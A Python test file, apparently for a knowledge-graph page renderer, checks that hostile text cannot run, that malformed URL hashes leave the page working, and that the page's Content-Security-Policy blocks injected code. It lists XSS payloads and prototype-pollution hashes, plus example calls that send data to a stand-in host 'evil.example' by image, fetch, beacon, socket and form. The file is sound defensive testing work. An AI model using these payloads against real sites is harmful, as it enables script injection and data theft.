"""Text that tries to be markup, script, style or an address stays text, and the browser would refuse it besides."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, Route

from kg.model import Document, Evidence, Extraction, Knowledge, Literal, Node, Span, Statement, Status
from kg.page import drawing, render
from kg.page.payload import Data, payload
from kg.page.style import asset
from tests.page.hostile import BASE, KNOWLEDGE, RULES, WORDS
from tests.page.taking import Taking, taking
from tests.page.visits import units

#: Of classes and relations alone: the hostile words are everywhere else.
LABELS = {"Person": "person", "Ministry": "ministry", "said": "said", "memberOf": "member of"}
FAMILIES = {"Ministry": "Body"}


def html(*, quotes_only: bool = False) -> str:
    return render(KNOWLEDGE, base=BASE, labels=LABELS, rules=RULES, families=FAMILIES, quotes_only=quotes_only)


@pytest.fixture(scope="module")
def data() -> Data:
    return payload(KNOWLEDGE, base=BASE, labels=LABELS, rules=RULES, families=FAMILIES)


@pytest.fixture(scope="module")
def file(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("hostile") / "a <script> & 'page' 🍵.html"
    path.write_bytes(html().encode("utf-8"))
    return path


#: The names of all elements, and all attributes that would run or load something.
NAMES = "[...new Set([...document.querySelectorAll('*')].map((one) => one.localName))]"
LIVE = """[...document.querySelectorAll('*')].flatMap((one) => [...one.attributes]
  .filter(({ name, value }) => name.startsWith("on") || /^(src|srcdoc|href)$/.test(name) && !/^(#|blob:)/.test(value))
  .map(({ name, value }) => `${name}=${value}`))"""

#: What cards, lists, the reader and reports are made of.
MADE = set(
    "article aside b bdi blockquote button cite code dd details dialog div dl dt em form g h2 h3 h4 i label li line"
    " mark ol option p path pre q rect select small span strong summary svg table tbody td text textarea th thead"
    " time title tr ul".split()
)


@pytest.fixture
def seen(browser: Browser, file: Path) -> Iterator[Taking]:
    """The page of hostile words; in the end no element came of them, and nothing ran."""
    with taking(browser, file) as visit:
        before = set(visit.page.evaluate(NAMES))
        yield visit
        assert set(visit.page.evaluate(NAMES)) - before <= MADE
        assert visit.page.evaluate("document.scripts.length") == 5
        assert visit.page.evaluate(LIVE) == []


def follow(seen: Taking, key: str, value: str) -> None:
    """To the place that a link with this key and value names."""
    seen.page.evaluate("([key, value]) => { location.hash = `${key}=${encodeURIComponent(value)}`; }", [key, value])


def test_every_card_shows_its_words(seen: Taking, data: Data) -> None:
    for node in data["nodes"]:
        follow(seen, "node", node["id"])
        seen.shows("#panel h2", node["words"] or node["label"])
        card = seen.page.text_content("#panel") or ""
        assert all(name in card for name in node["names"])


def test_every_statement_shows_its_words_its_sentence_and_its_rule(seen: Taking, data: Data) -> None:
    for one in data["statements"]:
        (reading,) = one["evidence"]
        source = data["documents"][reading["document"]]
        follow(seen, "statement", one["id"])
        seen.shows("#panel blockquote", units(source["text"], reading["start"], reading["end"]))
        card = seen.page.text_content("#panel") or ""
        wanted = [one["subject"]["text"], one["object"]["text"], reading["speaker"], source["title"]]
        wanted += [source["publisher"], reading["rule"], *data["rules"][reading["rule"]][:2]]
        wanted += [value for _, value in (*one["qualifiers"], *reading["qualifiers"])]
        assert [some for some in wanted if some not in card] == []


def test_every_sentence_shows_its_words_and_why_it_states_nothing(seen: Taking, data: Data) -> None:
    for name, source in data["documents"].items():
        follow(seen, "doc", name)
        seen.page.wait_for_function("name => document.getElementById('which').value === name", arg=name)
        words = [units(source["text"], start, end) for start, end, *_ in source["sentences"]]
        assert seen.texts("#pages .sentence") == words
        for number, sentence in enumerate(words):
            follow(seen, "sentence", f"{name}:{number}")
            seen.shows("#panel blockquote", sentence)
        # The last is left open: the sentence, the slot, the words and why.
        assert (seen.page.text_content("#panel") or "").count(name.partition(" ")[2]) >= 4


def test_table_list_of_documents_filters_and_strip_of_time_show_their_words(seen: Taking, data: Data) -> None:
    sources = data["documents"].values()
    rows = [row[1:4] for row in seen.table()]
    assert rows == [[one["subject"]["text"], one["relation"], one["object"]["text"]] for one in data["statements"]]
    for shown, source in zip(seen.texts("#which option"), sources, strict=True):
        assert shown.startswith(source["title"][:60])
    names = set(seen.texts("#facet-groups .name"))
    assert {one["title"] for one in sources} | {one["publisher"] for one in sources} <= names
    marks = seen.texts("#strip .moment title")
    assert len([mark for mark in marks if any(one["title"][:40] in mark for one in sources)]) > 10


def test_filters_work_by_hostile_names(seen: Taking, data: Data) -> None:
    for source in data["documents"].values():
        follow(seen, "no-publisher", source["publisher"])
        rest = len(data["statements"]) - 5
        seen.shows("#shown", f"Showing {rest} of {len(data['statements'])} statements")


def test_search_finds_and_shows_what_is_typed(seen: Taking, data: Data) -> None:
    names = {name for node in data["nodes"] for name in (node["label"], *node["names"])}
    for words in WORDS.values():
        seen.page.fill("#search", f"Alias {words}")
        found = seen.texts("#found [role=option]")
        assert found, words
        assert all(any(name in one for name in names) for one in found)
        seen.page.keyboard.press("Enter")
        seen.page.wait_for_function("document.querySelector('#panel h2').textContent !== 'How to read this'")


def test_a_page_of_quotes_keeps_to_its_words(browser: Browser, tmp_path: Path, data: Data) -> None:
    path = tmp_path / "page.html"
    path.write_bytes(html(quotes_only=True).encode("utf-8"))
    with taking(browser, path) as seen:
        for name, source in data["documents"].items():
            follow(seen, "doc", name)
            seen.page.wait_for_function("name => document.getElementById('which').value === name", arg=name)
            met, said, *_ = [units(source["text"], start, end) for start, end, *_ in source["sentences"]]
            assert seen.texts("#pages .sentence") == [met, said]


def test_the_report_has_the_words_as_they_are(browser: Browser, file: Path, data: Data) -> None:
    one = next(one for one in data["statements"] if WORDS["turned round"] in one["subject"]["text"])
    before = "Object.defineProperty(navigator, 'clipboard', { value: undefined });"
    with taking(browser, file, f"#statement={one['id']}", before=before) as seen:
        seen.page.get_by_role("button", name="Report this").first.click()
        shown = seen.page.input_value("dialog textarea")
    assert f"says: {one['subject']['text']} — {one['relation']} → {one['object']['text']}" in shown


def test_the_markup_has_no_hostile_words_and_its_data_no_angle(file: Path) -> None:
    outside = file.read_text(encoding="utf-8")
    for part in ("data", "drawing"):
        before, _, rest = outside.partition(f'<script type="application/json" id="{part}">')
        inside, _, after = rest.partition("</script>")
        assert "<" not in inside
        assert json.loads(inside)
        outside = before + after
    assert [words for words in WORDS.values() if len(words) > 15 and words in outside] == []


def test_half_a_letter_does_no_harm(browser: Browser, tmp_path: Path) -> None:
    """No file holds one; who calls `render` may have one all the same."""
    words = "half \ud83c a letter"
    person = Node(f"{BASE}id/half", words, "Person", (words,))
    made = Document("note", f"Jane met {words}.", title=words)
    span = Span(0, len(made.text))
    reading = Evidence("e", "note", span, made.text, "a.rule", "", "", (("cue", span),))
    fact = Statement("s", person, "met", "met", Literal(words), Status.ASSERTED, (), (reading,))
    knowledge = Knowledge((Extraction(made, (), (fact,)),), (fact,), ())
    path = tmp_path / "page.html"
    path.write_bytes(render(knowledge, base=BASE, labels={}, rules={}, families={}).encode("utf-8"))
    with taking(browser, path, "#node=id/half") as seen:
        assert seen.page.inner_text("#panel h2").startswith("half ")
        for kind in ("csv", "turtle", "svg"):
            assert "half \ufffd a letter" in seen.take(kind).decode("utf-8")


# ----------------------------------------------------------------------------------- hostile addresses

HASHES = [
    "#node=<script>alert(1)</script>",
    "#node=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
    "#node=__proto__&statement=constructor&sentence=toString",
    "#sentence=__proto__:0",
    "#doc=__proto__/../x",
    "#open=hasOwnProperty",
    "#no-class=__proto__&no-nonsense=1&no-relation=%00",
    "#sort=-__proto__",
    "#sort=javascript:alert(1)",
    "#words=%3Cb%3E%5B(*%2B%3F%5C",
    "#from=0000-00-00&to=9999-99-99",
    "#from=2024-13-45",
    "#from=0001-01-01&to=9999-12-31",
    "#at=NaN,NaN,NaN",
    "#at=1e999,0,0",
    "#at=0,0,0",
    "#at=99999999999,-99999999999,0.00001",
    "#at=0,0,99999",
    "#steps=99999999",
    "#add=__proto__~memberOf&add=~&add=(a%2B)%2B~x",
    "#%E0%A4%A",
    "#%00%0A%0D",
    "#=&&&===",
    "#__proto__[x]=1&constructor.prototype.x=1",
    "#" + "node=x&" * 5000,
    "#search",
]


def works(seen: Taking) -> None:
    """It is still the page: it can be searched, shows what is chosen, and draws."""
    seen.page.fill("#search", "Person {{ 7")
    seen.page.keyboard.press("Enter")
    seen.shows("#panel h2", f"Person {WORDS['template']}")
    assert seen.page.evaluate("({}).x === undefined && Object.keys(Object.prototype).length === 0")
    assert seen.page.evaluate("document.scripts.length") == 5
    assert seen.page.evaluate("Object.values(kgPage.network.getViewPosition()).every(Number.isFinite)")


@pytest.mark.parametrize("hash_", HASHES, ids=[one[:40] for one in HASHES])
def test_a_hostile_address_opens_the_page(browser: Browser, file: Path, hash_: str) -> None:
    with taking(browser, file, hash_) as seen:
        works(seen)


def test_hostile_addresses_leave_the_page_that_is_open_at_work(seen: Taking) -> None:
    for hash_ in HASHES:
        seen.page.evaluate("hash => { location.hash = hash; }", hash_)
        works(seen)


# ------------------------------------------------------------------------- Content-Security-Policy

_ADD = "const made = document.createElement('{}'); {} document.body.append(made);"
_SCRIPT = "script-src|require-trusted-types-for"
_EVIL = "https://evil.example/"

#: What would run, load or send something if the browser let it, and the directives that do not.
VIOLATIONS: dict[str, tuple[str, str]] = {
    "script inside": (_ADD.format("script", "made.append('window.ran = 1');"), _SCRIPT),
    "script from elsewhere": (_ADD.format("script", f"made.setAttribute('src', '{_EVIL}');"), _SCRIPT),
    "eval": ("eval('window.ran = 1')", _SCRIPT),
    "Function": ("new Function('window.ran = 1')()", _SCRIPT),
    "timer of words": ("setTimeout('window.ran = 1', 0)", _SCRIPT),
    "handler": ("document.body.setAttribute('onclick', 'window.ran = 1'); document.body.click();", _SCRIPT),
    "address that runs": (_ADD.format("a", "made.href = 'javascript:window.ran = 1';") + "made.click();", _SCRIPT),
    "markup": ("document.body.innerHTML = '<img src=x onerror=\"window.ran = 1\">'", "require-trusted-types-for"),
    "written markup": ("document.write('<b>x</b>')", "require-trusted-types-for"),
    "parsed markup": ("new DOMParser().parseFromString('<b>x</b>', 'text/html')", "require-trusted-types-for"),
    "policy of its own": ("trustedTypes.createPolicy('mine', { createHTML: (text) => text })", "trusted-types"),
    "picture": (_ADD.format("img", f"made.src = '{_EVIL}?' + document.title;"), "img-src"),
    "picture of its own": (_ADD.format("img", "made.src = 'data:image/gif;base64,R0lGODlhAQABAAAAACw=';"), "img-src"),
    "style": (_ADD.format("style", f"made.append('body {{ background: url({_EVIL}) }}');"), "style-src"),
    "style of an element": ("document.body.setAttribute('style', 'color: red')", "style-src"),
    "style sheet": (_ADD.format("link", f"made.rel = 'stylesheet'; made.href = '{_EVIL}';"), "style-src"),
    "font": (f"document.fonts.add(new FontFace('x', 'url({_EVIL})')); document.fonts.load('12px x')", "font-src"),
    "fetch": (f"fetch('{_EVIL}')", "connect-src"),
    "beacon": (f"navigator.sendBeacon('{_EVIL}', 'secret')", "connect-src"),
    "socket": ("new WebSocket('wss://evil.example/')", "connect-src"),
    "events": (f"new EventSource('{_EVIL}')", "connect-src"),
    "frame": (_ADD.format("iframe", f"made.src = '{_EVIL}';"), "frame-src"),
    "object": (_ADD.format("object", f"made.setAttribute('data', '{_EVIL}');"), "object-src|require-trusted-types-for"),
    "sound": (_ADD.format("audio", f"made.src = '{_EVIL}'; made.load();"), "media-src"),
    "worker": ("new Worker('data:text/javascript,postMessage(1)')", "worker-src|require-trusted-types-for"),
    "form": (_ADD.format("form", f"made.action = '{_EVIL}';") + "made.submit();", "form-action"),
    "base": (f"{_ADD.format('base', '')} made.href = '{_EVIL}';", "base-uri"),
}

#: As if a script of the page went wrong: it does what it is told, and tells by which directive the browser refused it.
GONE_WRONG = """
const wrongs = { %s };
window.goWrong = (name) => new Promise((done) => {
  document.addEventListener("securitypolicyviolation", (event) => done(event.effectiveDirective));
  setTimeout(() => done("nothing refused it"), 10_000);
  // Later: whoever calls this from the tools of a browser may do more than a page.
  setTimeout(() => { try { wrongs[name](); } catch {} });
});
"""


@pytest.fixture(scope="module")
def gone_wrong(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The page with a script that its own policy knows, and that tries everything."""
    tries = ", ".join(f"{json.dumps(name)}: () => {{ {script} }}" for name, (script, _) in VIOLATIONS.items())
    with pytest.MonkeyPatch.context() as patched:
        patched.setattr(drawing, "asset", lambda name: asset(name) + (GONE_WRONG % tries) * (name == "main.js"))
        made = html()
    path = tmp_path_factory.mktemp("wrong") / "page.html"
    path.write_bytes(made.encode("utf-8"))
    return path


@pytest.mark.parametrize("name", VIOLATIONS)
def test_the_browser_refuses(browser: Browser, gone_wrong: Path, name: str) -> None:
    context = browser.new_context()
    reached: list[str] = []

    def note(route: Route) -> None:
        """What the policy refuses does not get as far as here."""
        reached.append(route.request.url)
        route.abort()

    context.route("http**", note)
    page = context.new_page()
    page.goto(gone_wrong.as_uri())
    refused = page.evaluate("name => window.goWrong(name)", name)
    assert refused in {f"{one}{kind}" for one in VIOLATIONS[name][1].split("|") for kind in ("", "-elem", "-attr")}
    assert page.evaluate("window.ran === undefined")
    assert reached == []
    assert page.url == gone_wrong.as_uri()
    context.close()


def test_the_policy_allows_nothing_by_its_name(seen: Taking) -> None:
    policy = seen.page.get_attribute("meta[http-equiv]", "content") or ""
    allowed: dict[str, Any] = {name: rest for name, *rest in (part.split() for part in policy.split(";"))}
    assert allowed["default-src"] == allowed["base-uri"] == allowed["form-action"] == ["'none'"]
    assert all(value.startswith("'sha256-") for name in ("script-src", "style-src") for value in allowed[name])
    assert "unsafe" not in policy
